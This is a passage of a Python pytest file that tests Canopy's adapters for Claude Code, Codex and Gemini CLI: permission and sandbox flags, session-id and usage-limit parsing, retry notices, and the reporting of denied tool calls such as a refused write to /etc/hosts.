"""Platform adapters: argv, session ids, usage limits, the config file, the fake agent."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import tomllib
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from canopy.errors import Refused
from canopy.permissions import PERMISSION_LEVELS, Permissions
from canopy.platforms import (
    Invocation,
    Platform,
    RetryNotice,
    UsageLimit,
    clamp_reset,
    get_platform,
    platform_names,
)
from canopy.platforms.claude import ClaudePlatform
from tests.agent_runs import run_agent
from tests.engine import agent_runs
from tests.fake_agent import LIMIT_SHAPES

FAKE_AGENT = Path(__file__).with_name("fake_agent.py")
FAKE_RESETS = [timedelta(hours=5), timedelta(days=3), timedelta(days=7, hours=1)]
"""Resets the fake renders as a time of day, a weekday and a date (Claude's three forms)."""
# 12:00 in New York (EST, UTC-5), 01:00 the next day in Shanghai.
NOW = datetime(2026, 1, 15, 17, 0, tzinfo=UTC)
HARNESSES = ["claude", "codex", "gemini"]


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private CANOPY_HOME, so no real config file leaks in."""
    path = tmp_path / "home"
    monkeypatch.setenv("CANOPY_HOME", str(path))
    return path


@pytest.fixture
def new_york() -> Iterator[None]:
    """The machine's local timezone is New York (harnesses print local wall-clock resets)."""
    previous = os.environ.get("TZ")
    os.environ["TZ"] = "America/New_York"
    time.tzset()
    yield
    if previous is None:
        del os.environ["TZ"]
    else:
        os.environ["TZ"] = previous
    time.tzset()


def write_config(home: Path, text: str) -> None:
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text(text)


def use_fake_agent(home: Path) -> None:
    """Point every built-in harness at the fake agent."""
    exe = json.dumps([sys.executable, str(FAKE_AGENT)])
    write_config(home, "".join(f"[platforms.{name}]\nexecutable = {exe}\n" for name in HARNESSES))


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=UTC)


def line(event: dict[str, object]) -> str:
    return json.dumps(event)


# ---------------------------------------------------------------------------- argv


CLAUDE_ARGV = ["claude", "-p", "--output-format", "stream-json", "--verbose"]
CLAUDE_SANDBOX = '{"sandbox":{"enabled":true,"allowUnsandboxedCommands":false}}'
CLAUDE_FLAGS: dict[Permissions, list[str]] = {
    "workspace": [
        *("--permission-mode", "acceptEdits"),
        *("--allowedTools", "Bash"),
        *("--settings", CLAUDE_SANDBOX),
    ],
    "read-only": ["--permission-mode", "dontAsk"],
    "full": ["--permission-mode", "bypassPermissions"],
    "cli": [],
}
"""Each level's flags, as root and as any other user (tests/test_real_claude.py runs them)."""


def test_claude_reads_the_prompt_on_stdin() -> None:
    invocation = get_platform("claude").build_invocation(
        "- fix it", model=None, effort=None, resume_session_id=None, permissions="cli"
    )
    assert invocation.argv == CLAUDE_ARGV
    assert invocation.stdin == "- fix it"


def test_claude_argv_with_model_effort_and_resume() -> None:
    invocation = get_platform("claude").build_invocation(
        "go", model="sonnet", effort="high", resume_session_id="abc-123", permissions="cli"
    )
    assert invocation.argv == [
        *CLAUDE_ARGV,
        "--model",
        "sonnet",
        "--effort",
        "high",
        "--resume",
        "abc-123",
    ]


@pytest.mark.parametrize("permissions", PERMISSION_LEVELS)
@pytest.mark.parametrize("bypass_refused", [True, False])
def test_claude_permission_flags_as_root_and_not(
    permissions: Permissions, bypass_refused: bool
) -> None:
    claude = ClaudePlatform(bypass_refused=bypass_refused)
    argv = CLAUDE_ARGV + CLAUDE_FLAGS[permissions] + ["--session-id", "s-1"]
    if permissions == "full" and bypass_refused:
        with pytest.raises(Refused, match=r"^permissions 'full' cannot run Claude Code as root"):
            claude.build_invocation(
                "go", model=None, effort=None, resume_session_id=None, permissions="full"
            )
        return
    invocation = claude.build_invocation(
        "go",
        model=None,
        effort=None,
        resume_session_id=None,
        permissions=permissions,
        session_id="s-1",
    )
    assert invocation.argv == argv


@pytest.mark.parametrize(
    ("euid", "is_sandbox", "refused"),
    [(0, None, True), (0, "0", True), (0, "1", False), (1000, None, False)],
)
def test_claude_refuses_bypass_as_root_unless_declared_a_sandbox(
    monkeypatch: pytest.MonkeyPatch, euid: int, is_sandbox: str | None, refused: bool
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: euid)
    if is_sandbox is None:
        monkeypatch.delenv("IS_SANDBOX", raising=False)
    else:
        monkeypatch.setenv("IS_SANDBOX", is_sandbox)
    assert ClaudePlatform().bypass_refused is refused


def test_claude_takes_the_chosen_session_id_only_on_a_fresh_run() -> None:
    claude = ClaudePlatform(bypass_refused=False)
    assert claude.takes_session_id
    resumed = claude.build_invocation(
        "go",
        model=None,
        effort=None,
        resume_session_id="r-1",
        permissions="cli",
        session_id="s-1",
    )
    assert resumed.argv == [*CLAUDE_ARGV, "--resume", "r-1"]


CODEX_FLAGS: dict[Permissions, list[str]] = {
    "workspace": [
        *("--sandbox", "workspace-write"),
        *("--add-dir", ".git"),
        "--skip-git-repo-check",
    ],
    "read-only": ["--sandbox", "read-only", "--skip-git-repo-check"],
    "full": ["--dangerously-bypass-approvals-and-sandbox"],
    "cli": [],
}
"""Each level's flags, as root and as any other user (tests/test_real_codex.py runs them)."""


@pytest.mark.parametrize("permissions", PERMISSION_LEVELS)
@pytest.mark.parametrize("euid", [0, 1000])
def test_codex_permission_flags_fresh_and_resumed(
    permissions: Permissions, euid: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The flags go before ``resume`` (which takes them); Codex cannot be given a thread
    id, so a chosen session id is ignored."""
    monkeypatch.setattr(os, "geteuid", lambda: euid)
    codex = get_platform("codex")
    assert not codex.takes_session_id
    fresh = codex.build_invocation(
        "go",
        model=None,
        effort=None,
        resume_session_id=None,
        permissions=permissions,
        session_id="s-1",
    )
    assert fresh.argv == ["codex", "exec", *CODEX_FLAGS[permissions], "--json", "-"]
    assert fresh.stdin == "go"
    resumed = codex.build_invocation(
        "go", model="gpt-5", effort="high", resume_session_id="th-1", permissions=permissions
    )
    assert resumed.argv == [
        "codex",
        "exec",
        *CODEX_FLAGS[permissions],
        "--json",
        *("--model", "gpt-5"),
        *("-c", "model_reasoning_effort=high"),
        *("resume", "th-1"),
        "-",
    ]


GEMINI_ARGV = ["gemini", "--output-format", "stream-json"]
GEMINI_POLICY = "<read-only policy>"
GEMINI_FLAGS: dict[Permissions, list[str]] = {
    "workspace": ["--skip-trust", "--approval-mode", "yolo"],
    "full": ["--skip-trust", "--approval-mode", "yolo"],
    "read-only": ["--skip-trust", "--approval-mode", "default", "--policy", GEMINI_POLICY],
    "cli": [],
}


def test_gemini_reads_the_prompt_on_stdin_and_ignores_effort() -> None:
    gemini = get_platform("gemini")
    fresh = gemini.build_invocation(
        "-x", model=None, effort="high", resume_session_id=None, permissions="cli"
    )
    assert fresh.argv == GEMINI_ARGV
    assert fresh.stdin == "-x"
    resumed = gemini.build_invocation(
        "go", model="gemini-2.5-pro", effort=None, resume_session_id="s1", permissions="cli"
    )
    assert resumed.argv == [*GEMINI_ARGV, "-m", "gemini-2.5-pro", "--resume", "s1"]


@pytest.mark.parametrize("permissions", PERMISSION_LEVELS)
@pytest.mark.parametrize("euid", [0, 1000])
def test_gemini_permission_flags_as_root_and_not(
    permissions: Permissions, euid: int, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Gemini CLI never looks at the uid, so neither do its flags; a fresh run takes the
    session id Canopy chose."""
    monkeypatch.setattr(os, "geteuid", lambda: euid)
    gemini = get_platform("gemini")
    assert gemini.takes_session_id
    invocation = gemini.build_invocation(
        "go",
        model=None,
        effort=None,
        resume_session_id=None,
        permissions=permissions,
        session_id="s-1",
    )
    policy = str(home / "platforms" / "gemini-read-only.toml")
    flags = [policy if flag == GEMINI_POLICY else flag for flag in GEMINI_FLAGS[permissions]]
    assert invocation.argv == [*GEMINI_ARGV, *flags, "--session-id", "s-1"]
    resumed = gemini.build_invocation(
        "go",
        model=None,
        effort=None,
        resume_session_id="r-1",
        permissions=permissions,
        session_id="s-1",
    )
    assert resumed.argv == [*GEMINI_ARGV, *flags, "--resume", "r-1"]


def test_gemini_read_only_policy_denies_all_but_reading_and_is_restored(home: Path) -> None:
    """The policy file is Canopy's: written on first use, rewritten when it was changed."""

    def policy() -> Path:
        argv = (
            get_platform("gemini")
            .build_invocation(
                "go", model=None, effort=None, resume_session_id=None, permissions="read-only"
            )
            .argv
        )
        return Path(argv[argv.index("--policy") + 1])

    path = policy()
    deny_all, allowed = tomllib.loads(path.read_text())["rule"]
    assert (deny_all["toolName"], deny_all["decision"]) == ("*", "deny")
    assert allowed["decision"] == "allow" and allowed["priority"] > deny_all["priority"]
    assert {"read_file", "grep_search", "glob", "list_directory"} <= set(allowed["toolName"])
    writers = {"write_file", "replace", "run_shell_command", "enter_plan_mode", "exit_plan_mode"}
    assert not writers & set(allowed["toolName"])
    written = path.read_text()
    path.write_text('[[rule]]\ntoolName = "*"\ndecision = "allow"\n')
    assert policy() == path and path.read_text() == written


def test_gemini_read_only_refuses_a_policy_path_the_cli_would_split(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Gemini CLI splits ``--policy`` on commas and ignores paths it cannot find: such a
    run would deny nothing."""
    monkeypatch.setenv("CANOPY_HOME", str(tmp_path / "a,b"))
    with pytest.raises(Refused, match=r"^permissions 'read-only' cannot run Gemini CLI: "):
        get_platform("gemini").build_invocation(
            "go", model=None, effort=None, resume_session_id=None, permissions="read-only"
        )


def test_empty_model_counts_as_unset() -> None:
    argv = (
        get_platform("claude")
        .build_invocation("go", model="", effort="", resume_session_id="", permissions="cli")
        .argv
    )
    assert "--model" not in argv and "--effort" not in argv and "--resume" not in argv


# ---------------------------------------------------------------------- session ids

CLAUDE_INIT = line({"type": "system", "subtype": "init", "session_id": "c-1", "model": "m"})
CLAUDE_RESULT = line(
    {"type": "result", "subtype": "success", "is_error": False, "result": "ok", "session_id": "c-2"}
)
CLAUDE_ASSISTANT = line(
    {
        "type": "assistant",
        "message": {"content": [{"type": "text", "text": "hi"}]},
        "session_id": "x",
    }
)


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("claude", CLAUDE_INIT, "c-1"),
        ("claude", CLAUDE_RESULT, "c-2"),
        ("claude", CLAUDE_ASSISTANT, None),
        ("claude", '{"type": "system", "subtype": "init", "session_id": 7}', None),
        ("claude", "not json at all", None),
        ("claude", '{"type": "system", "session_id": "broken', None),
        (
            "codex",
            '{"type":"thread.started","thread_id":"0199a213-81c0-7800"}',
            "0199a213-81c0-7800",
        ),
        ("codex", '{"type":"turn.started"}', None),
        ("gemini", '{"type":"init","timestamp":"t","session_id":"g-1","model":"m"}', "g-1"),
        ("gemini", '{"type":"message","role":"assistant","content":"session_id"}', None),
    ],
)
def test_session_id_from_line(name: str, text: str, expected: str | None) -> None:
    assert get_platform(name).session_id_from_line(text) == expected


# ------------------------------------------------------------------ claude limits


def claude_error(text: str) -> str:
    return line(
        {
            "type": "result",
            "subtype": "success",
            "is_error": True,
            "result": text,
            "session_id": "s",
        }
    )


def limit(name: str, *lines: str, now: datetime = NOW) -> UsageLimit | None:
    return get_platform(name).usage_limit("\n".join(lines) + "\n", now)


def test_claude_limit_epoch_form() -> None:
    found = limit("claude", CLAUDE_INIT, claude_error("Claude AI usage limit reached|1767225600"))
    assert found == UsageLimit(utc(2026, 1, 1), "Claude AI usage limit reached|1767225600")


@pytest.mark.usefixtures("new_york")
def test_claude_limit_resets_local_wall_clock() -> None:
    found = limit("claude", claude_error("5-hour limit reached ∙ resets 3pm"))
    assert found is not None
    assert found.reset_at == utc(2026, 1, 15, 20, 0)  # 3pm EST
    assert found.message == "5-hour limit reached ∙ resets 3pm"


@pytest.mark.usefixtures("new_york")
def test_claude_limit_resets_in_named_zone() -> None:
    found = limit("claude", claude_error("You've hit your limit · resets 2pm (Asia/Shanghai)"))
    assert found is not None and found.reset_at == utc(2026, 1, 16, 6, 0)


@pytest.mark.usefixtures("new_york")
def test_claude_limit_usage_limit_reached_resets_with_minutes_and_zone() -> None:
    text = "Claude usage limit reached. Your limit will reset at 8:30pm (Europe/Paris)."
    found = limit("claude", claude_error(text))
    assert found is not None and found.reset_at == utc(2026, 1, 15, 19, 30)


@pytest.mark.usefixtures("new_york")
def test_claude_limit_earlier_clock_time_means_tomorrow() -> None:
    late = utc(2026, 1, 16, 4, 50)  # 23:50 in New York
    found = limit("claude", claude_error("5-hour limit reached ∙ resets 2am"), now=late)
    assert found is not None and found.reset_at == utc(2026, 1, 16, 7, 0)


@pytest.mark.usefixtures("new_york")
def test_claude_weekly_limit_with_a_date() -> None:
    found = limit("claude", claude_error("Weekly limit reached ∙ resets Jan 20, 10am"))
    assert found is not None and found.reset_at == utc(2026, 1, 20, 15, 0)


def test_claude_rate_limit_event_rejected_gives_exact_reset() -> None:
    event = line(
        {
            "type": "rate_limit_event",
            "rate_limit_info": {
                "status": "rejected",
                "resetsAt": 1768500000,
                "rateLimitType": "five_hour",
            },
        }
    )
    text = claude_error("5-hour limit reached ∙ resets 3pm")
    found = limit("claude", CLAUDE_INIT, event, text)
    assert found is not None
    assert found.reset_at == datetime.fromtimestamp(1768500000, UTC)
    assert found.message == "5-hour limit reached ∙ resets 3pm"
    alone = limit("claude", CLAUDE_INIT, event)
    assert alone is not None and alone.reset_at == datetime.fromtimestamp(1768500000, UTC)
    assert "five_hour" in alone.message


def test_claude_limit_in_plain_text_line() -> None:
    found = limit("claude", "Error: Claude AI usage limit reached|1767225600")
    assert found is not None and found.reset_at == utc(2026, 1, 1)


def test_claude_limit_without_reset_time() -> None:
    found = limit("claude", claude_error("Claude AI usage limit reached."))
    assert found == UsageLimit(None, "Claude AI usage limit reached.")


def test_claude_no_false_positives() -> None:
    allowed = line({"type": "rate_limit_event", "rate_limit_info": {"status": "allowed_warning"}})
    talk = line(
        {
            "type": "assistant",
            "message": {"content": [{"type": "text", "text": "usage limit reached|1767225600"}]},
        }
    )
    assert limit("claude", CLAUDE_INIT, allowed, talk, CLAUDE_RESULT) is None
    assert limit("claude", CLAUDE_INIT, talk) is None  # crashed, but only the agent talked
    assert limit("claude", claude_error("Context limit reached · /compact or /clear")) is None
    assert limit("claude", claude_error("API Error: 500 Internal server error")) is None
    rejected = line({"type": "rate_limit_event", "rate_limit_info": {"status": "rejected"}})
    assert limit("claude", rejected, CLAUDE_RESULT) is None  # overage carried the turn
    assert limit("claude", "") is None


# ---------------------------------------------------------- claude denials and retries


def claude_call(tool_use_id: str, tool: str, arguments: dict[str, str]) -> str:
    block = {"type": "tool_use", "id": tool_use_id, "name": tool, "input": arguments}
    return line({"type": "assistant", "message": {"content": [block]}})


def claude_denied(tool_use_id: str, tool: str) -> str:
    """What 2.1.332 prints the moment a tool call is refused (the input is not in it)."""
    message = f"Permission to use {tool} has been denied because Claude Code is running in…"
    event = {"type": "system", "subtype": "permission_denied", "message": message}
    return line({**event, "tool_name": tool, "tool_use_id": tool_use_id})


def test_claude_denials_name_each_refused_call_once() -> None:
    claude = get_platform("claude")
    write = {"file_path": "/w/app/x.py", "content": "x"}
    command = {"command": "rm -rf build &&\n  echo " + "x" * 300, "description": "Clean"}
    outside = {"file_path": "/etc/hosts", "content": "x"}
    calls = [("t1", "Write", write), ("t2", "Bash", command), ("t3", "Write", outside)]
    init = line({"type": "system", "subtype": "init", "cwd": "/w", "session_id": "s"})
    events = [line for call in calls for line in (claude_call(*call), claude_denied(*call[:2]))]
    listed = [{"tool_name": t, "tool_use_id": i, "tool_input": a} for i, t, a in calls]
    result = line({**json.loads(CLAUDE_RESULT), "permission_denials": listed})
    expected = ["Write app/x.py", f"Bash: rm -rf build && echo {'x' * 172}…", "Write /etc/hosts"]
    assert len(expected[1]) == 200
    assert claude.denials("\n".join([init, *events, result])) == expected
    assert claude.denials("\n".join([init, *events])) == expected  # killed before its result
    assert claude.denials("\n".join([init, result])) == expected  # the result alone
    assert claude.denials("\n".join([init, claude_call(*calls[0]), CLAUDE_RESULT])) == []


@pytest.mark.parametrize(
    ("status", "error", "message"),
    [
        (429, "rate_limit", "Claude API call failed: rate_limit (HTTP 429); retry 2/10 in 2s"),
        (529, "overloaded", "Claude API call failed: overloaded (HTTP 529); retry 2/10 in 2s"),
        (None, "unknown", "Claude API call failed: unknown; retry 2/10 in 2s"),
    ],
)
def test_claude_api_retries_are_retry_notices(status: int | None, error: str, message: str) -> None:
    """2.1.332's ``api_retry`` events: an HTTP error or, status null, no connection."""
    event = {"type": "system", "subtype": "api_retry", "attempt": 2, "max_retries": 10}
    retry = line({**event, "retry_delay_ms": 2268, "error_status": status, "error": error})
    notice = get_platform("claude").retry_notice(retry)
    assert notice == RetryNotice(message, timedelta(milliseconds=2268))
    for other in (CLAUDE_INIT, CLAUDE_RESULT, CLAUDE_ASSISTANT, "API Error: 529", ""):
        assert get_platform("claude").retry_notice(other) is None


# ------------------------------------------------------------------- codex limits


def codex_failure(message: str) -> list[str]:
    return [
        '{"type":"thread.started","thread_id":"t"}',
        '{"type":"turn.started"}',
        line({"type": "error", "message": message}),
        line({"type": "turn.failed", "error": {"message": message}}),
    ]


@pytest.mark.usefixtures("new_york")
def test_codex_limit_try_again_at_local_time() -> None:
    message = (
        "You've hit your usage limit. Upgrade to Pro (https://chatgpt.com/explore/pro), visit "
        "https://chatgpt.com/codex/settings/usage to purchase more credits or try again at 3:05 PM."
    )
    found = limit("codex", *codex_failure(message))
    assert found == UsageLimit(utc(2026, 1, 15, 20, 5), message)


@pytest.mark.usefixtures("new_york")
def test_codex_limit_try_again_at_another_day() -> None:
    found = limit(
        "codex", *codex_failure("You've hit your usage limit. Try again at Jan 16th, 2026 9:05 AM.")
    )
    assert found is not None and found.reset_at == utc(2026, 1, 16, 14, 5)


@pytest.mark.parametrize(
    ("phrase", "delay"),
    [
        ("2 hours 5 minutes", timedelta(hours=2, minutes=5)),
        ("1 day 3 hours", timedelta(days=1, hours=3)),
        ("45 minutes", timedelta(minutes=45)),
        ("less than a minute", timedelta(0)),
    ],
)
def test_codex_limit_try_again_in_duration(phrase: str, delay: timedelta) -> None:
    found = limit("codex", *codex_failure(f"You've hit your usage limit. Try again in {phrase}."))
    assert found is not None and found.reset_at == NOW + delay


def test_codex_limit_without_reset_and_as_plain_text() -> None:
    later = limit("codex", *codex_failure("You've hit your usage limit. Try again later."))
    assert later == UsageLimit(None, "You've hit your usage limit. Try again later.")
    plain = limit("codex", "ERROR: You've hit your usage limit. Try again in 10 minutes.")
    assert plain is not None and plain.reset_at == NOW + timedelta(minutes=10)


def test_codex_no_false_positives() -> None:
    talk = line(
        {
            "type": "item.completed",
            "item": {
                "type": "agent_message",
                "text": "You've hit your usage limit. Try again in 1 hour.",
            },
        }
    )
    done = '{"type":"turn.completed","usage":{"input_tokens":1,"output_tokens":1}}'
    assert limit("codex", talk, done) is None
    assert limit("codex", talk) is None
    assert limit("codex", *codex_failure("stream disconnected before completion")) is None


# --------------------------------------------------------- codex denials and retries


CODEX_THREAD = "01a24301-850b-7592-921b-f23dc201bc03"
CODEX_PATCH = "*** Begin Patch\n*** Add File: app/x.py\n+x\n*** End Patch\n"
CODEX_REJECTED = (
    "patch rejected: writing is blocked by read-only sandbox; rejected by user approval settings"
)


def codex_exited(code: int, output: str) -> str:
    """What the ``exec_command`` tool answers the model when a command has ended."""
    return (
        f"Chunk ID: 1f2e3d\nWall time: 0.0000 seconds\nProcess exited with code {code}\n"
        f"Original token count: 9\nOutput:\n{output}"
    )


def codex_call(call_id: str, output: object, **call: object) -> list[dict[str, object]]:
    """A tool call and its output, as rollout ``response_item`` payloads."""
    kind = "custom_tool_call" if "input" in call else "function_call"
    return [
        {"type": kind, "call_id": call_id, **call},
        {"type": f"{kind}_output", "call_id": call_id, "output": output},
    ]


def codex_turn(sandbox: str, *items: dict[str, object]) -> list[dict[str, object]]:
    """One ``codex exec`` run's records in a rollout: its turn, sandbox and tool calls."""
    calls: list[dict[str, object]] = [{"type": "response_item", "payload": i} for i in items]
    return [
        {"type": "event_msg", "payload": {"type": "task_started", "turn_id": "t"}},
        {"type": "turn_context", "payload": {"sandbox_policy": {"type": sandbox}}},
        *calls,
        {"type": "event_msg", "payload": {"type": "task_complete", "turn_id": "t"}},
    ]


def write_rollout(codex_home: Path, *turns: list[dict[str, object]]) -> None:
    folder = codex_home / "sessions" / "2026" / "01" / "15"
    folder.mkdir(parents=True)
    meta = {"type": "session_meta", "payload": {"id": CODEX_THREAD, "cwd": "/w"}}
    records = [meta, *(record for turn in turns for record in turn)]
    path = folder / f"rollout-2026-01-15T12-00-00-{CODEX_THREAD}.jsonl"
    path.write_text("".join(json.dumps(record) + "\n" for record in records))


def test_codex_denials_are_read_from_the_runs_turn_in_its_rollout(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rollout shapes of 0.171 (``--json`` shows none of these): patch and approval
    rejections, and sandboxed commands failing on a sandbox denial, from the tools and
    from code mode's ``exec``; only the latest turn (this run's) counts."""
    monkeypatch.setenv("CODEX_HOME", str(tmp_path))
    long_command = "cd app &&\n  touch " + "x" * 300
    denied = "touch: cannot touch 'ran.txt': Read-only file system\n"
    earlier = codex_turn("workspace-write", *codex_call("c0", CODEX_REJECTED, input=CODEX_PATCH))
    this_run = codex_turn(
        "read-only",
        *codex_call("c1", CODEX_REJECTED, name="apply_patch", input=CODEX_PATCH),
        *codex_call("c2", codex_exited(1, denied), arguments='{"cmd": "touch ran.txt"}'),
        *codex_call("c3", codex_exited(1, ""), arguments='{"cmd": "false"}'),
        *codex_call("c4", codex_exited(0, "Permission denied\n"), arguments='{"cmd": "grep"}'),
        *codex_call("c5", codex_exited(1, denied), arguments=json.dumps({"cmd": long_command})),
        *codex_call(
            "c6",
            "approval policy is Never; reject command \u2014 you cannot ask for escalated "
            "permissions if the approval policy is Never",
            arguments='{"cmd": "touch /opt/x", "sandbox_permissions": "require_escalated"}',
        ),
        *codex_call(
            "c7",
            [
                {"type": "input_text", "text": "Script failed\nWall time 0.0 seconds\nOutput:\n"},
                {"type": "input_text", "text": f"Script error:\n{CODEX_REJECTED}"},
            ],
            name="exec",
            input=f"const r = await tools.apply_patch({json.dumps(CODEX_PATCH)});",
        ),
        *codex_call(
            "c8",
            [
                {"type": "input_text", "text": "Script completed\nWall time 0.1 seconds\n"},
                {"type": "input_text", "text": json.dumps({"exit_code": 1, "output": denied})},
            ],
            name="exec",
            input='const r = await tools.exec_command({"cmd": "touch ran.txt"});',
        ),
    )
    write_rollout(tmp_path, earlier, this_run)
    output = line({"type": "thread.started", "thread_id": CODEX_THREAD})
    assert get_platform("codex").denials(output) == [
        f"app/x.py: {CODEX_REJECTED}",
        f"touch ran.txt: {denied.strip()}",
        f"cd app && touch {'x' * 183}…",
        "touch /opt/x: approval policy is Never; reject command \u2014 you cannot ask for "
        "escalated permissions if the approval policy is Never",
        f"app/x.py: {CODEX_REJECTED}",
        denied.strip(),
    ]
    assert get_platform("codex").denials('{"type":"turn.started"}') == []
    other = line({"type": "thread.started", "thread_id": "01a24301-0000-7000-8000-000000000000"})
    assert get_platform("codex").denials(other) == []


def test_codex_commands_failing_without_a_sandbox_are_not_denials(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Under ``full`` (``danger-full-access``) nothing is Codex's refusal."""
    monkeypatch.setenv("CODEX_HOME", str(tmp_path))
    failed = codex_exited(1, "touch: cannot touch '/etc/x': Permission denied\n")
    write_rollout(
        tmp_path, codex_turn("danger-full-access", *codex_call("c1", failed, arguments="{}"))
    )
    output = line({"type": "thread.started", "thread_id": CODEX_THREAD})
    assert get_platform("codex").denials(output) == []


def test_codex_sandbox_that_cannot_start_refuses_every_patch_and_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """0.171 with ``CODEX_HOME`` under /tmp and Debian 12's bubblewrap: the patch tool's
    ``Exit code: 1`` and the command's both name the failure, in both tool shapes."""
    monkeypatch.setenv("CODEX_HOME", str(tmp_path))
    unwritten = "Exit code: 1\nWall time: 0 seconds\nOutput:\nFailed to write file /w/app/x.py\n"
    no_helper = "bwrap: execvp codex-linux-sandbox: No such file or directory\n"
    script_failed = {"type": "input_text", "text": "Script failed\nWall time 0.0 seconds\n"}
    write_rollout(
        tmp_path,
        codex_turn(
            "workspace-write",
            *codex_call("c1", unwritten, name="apply_patch", input=CODEX_PATCH),
            *codex_call("c2", codex_exited(1, no_helper), arguments='{"cmd": "touch ran.txt"}'),
            *codex_call(
                "c3",
                [script_failed, {"type": "input_text", "text": f"Script error:\n{unwritten}"}],
                name="exec",
                input=f"const r = await tools.apply_patch({json.dumps(CODEX_PATCH)});",
            ),
        ),
    )
    output = line({"type": "thread.started", "thread_id": CODEX_THREAD})
    assert get_platform("codex").denials(output) == [
        "app/x.py: Failed to write file /w/app/x.py",
        f"touch ran.txt: {no_helper.strip()}",
        "app/x.py: Failed to write file /w/app/x.py",
    ]


@pytest.mark.parametrize(
    ("message", "wait"),
    [
        ("Reconnecting... 1/5 (exceeded retry limit, last status: 429 Too Many Requests)", None),
        (
            "Reconnecting... 3/5 (We\u2019re currently experiencing high demand, which may "
            "cause temporary errors.)",
            None,
        ),
        (
            "Reconnecting... 2/5 (rate limit exceeded: Rate limit reached for gpt-5.5. Please "
            "try again in 11.054s.)",
            timedelta(seconds=11.054),
        ),
        ("Reconnecting... waiting for network (Connection failed: error sending request)", None),
    ],
)
def test_codex_reconnects_are_retry_notices(message: str, wait: timedelta | None) -> None:
    """0.171's own retries: ``error`` events on stdout, while it tries again by itself."""
    codex = get_platform("codex")
    notice = line({"type": "error", "message": message})
    assert codex.retry_notice(notice) == RetryNotice(message, wait)
    assert not codex.is_progress(notice)
    given_up = line({"type": "error", "message": "exceeded retry limit, last status: 429"})
    said = line({"type": "item.completed", "item": {"type": "agent_message", "text": message}})
    for other in (given_up, said, '{"type":"turn.started"}', message, ""):
        assert codex.retry_notice(other) is None


# ------------------------------------------------------------------ gemini limits


def gemini_failure(message: str) -> list[str]:
    return [
        '{"type":"init","timestamp":"t","session_id":"g","model":"m"}',
        line({"type": "result", "status": "error", "error": {"type": "E", "message": message}}),
    ]


@pytest.mark.parametrize(
    ("message", "delay", "kind"),
    [
        (
            "You have exhausted your capacity on this model. Your quota will reset after 4h28m20s.",
            timedelta(hours=4, minutes=28, seconds=20),
            "usage",
        ),
        (
            "Quota exceeded for metric: free_tier_requests\nPlease retry in 42.5s.",
            timedelta(seconds=42.5),
            "rate",
        ),
        (
            "Quota exceeded for metric: free_tier_requests\nPlease retry in 7200s.",
            timedelta(hours=2),
            "usage",
        ),
        ("[API Error: RESOURCE_EXHAUSTED] Please wait and try again later.", None, "rate"),
        ("[API Error: You have exhausted your daily quota on this model.]", None, "usage"),
        ("You have exhausted your capacity on this model.", None, "usage"),
        ("RetryableQuotaError: Resource has been exhausted (e.g. check quota).", None, "rate"),
    ],
)
def test_gemini_limits(message: str, delay: timedelta | None, kind: str) -> None:
    """A daily quota, exhausted capacity or a reset over five minutes away is a usage
    window; a shorter or unnamed wait, an API rate limit (Gemini CLI's own split)."""
    found = limit("gemini", *gemini_failure(message))
    assert found is not None
    assert found.reset_at == (NOW + delay if delay is not None else None)
    assert found.message == message.splitlines()[0]
    assert found.kind == kind


def test_gemini_limit_in_error_event_and_stderr_retry_delay() -> None:
    event = line({"type": "error", "severity": "error", "message": "Quota exceeded (429)"})
    assert limit("gemini", event) == UsageLimit(None, "Quota exceeded (429)", "rate")
    plain = ['  "status": "RESOURCE_EXHAUSTED",', '  "retryDelay": "58s"']
    found = limit("gemini", *plain)
    message = '"status": "RESOURCE_EXHAUSTED",'
    assert found == UsageLimit(NOW + timedelta(seconds=58), message, "rate")


def test_gemini_no_false_positives() -> None:
    talk = (
        '{"type":"message","role":"assistant","content":"Quota exceeded, retry in 5s","delta":true}'
    )
    done = '{"type":"result","status":"success","stats":{}}'
    retried = (
        "Attempt 1 failed: You have exhausted your capacity on this model. Retrying after 5000ms"
    )
    assert limit("gemini", talk, retried, done) is None
    assert limit("gemini", talk) is None
    assert limit("gemini", *gemini_failure("Request contains an invalid argument.")) is None


# -------------------------------------------------------------------- clamp_reset


def test_clamp_reset_bounds() -> None:
    """Known resets are kept (a weekly one days away too); unknown or absurd ones fall back."""
    assert clamp_reset(None, NOW) == NOW + timedelta(hours=6)
    assert clamp_reset(NOW - timedelta(hours=1), NOW) == NOW + timedelta(seconds=60)
    assert clamp_reset(NOW + timedelta(days=3), NOW) == NOW + timedelta(days=3)
    assert clamp_reset(NOW + timedelta(hours=2), NOW) == NOW + timedelta(hours=2)
    assert clamp_reset(NOW + timedelta(days=30), NOW) == NOW + timedelta(hours=6)


@given(st.integers(min_value=-(10**8), max_value=10**8))
def test_clamp_reset_always_within_bounds(offset: int) -> None:
    clamped = clamp_reset(NOW + timedelta(seconds=offset), NOW)
    assert NOW + timedelta(seconds=60) <= clamped <= NOW + timedelta(days=8)


# ------------------------------------------------------------ config and registry

TOOL_CONFIG = """
[platforms.mytool]
argv = ["mytool", "--model", "{model}", "--effort={effort}", "-p", "{prompt}"]
resume_argv = ["mytool", "--continue", "{session_id}", "{prompt}"]
session_id_pattern = 'session: (\\S+)'
limit_pattern = 'quota hit, retry in (?P<reset_seconds>\\d+)s'
"""


def test_config_platform_substitutes_and_drops_unset_placeholders(home: Path) -> None:
    write_config(home, TOOL_CONFIG)
    tool = get_platform("mytool")
    assert tool.name == "mytool"
    fresh = tool.build_invocation(
        "go", model=None, effort=None, resume_session_id=None, permissions="cli"
    )
    assert fresh == Invocation(["mytool", "-p", "go"], stdin=None)
    assert tool.build_invocation(
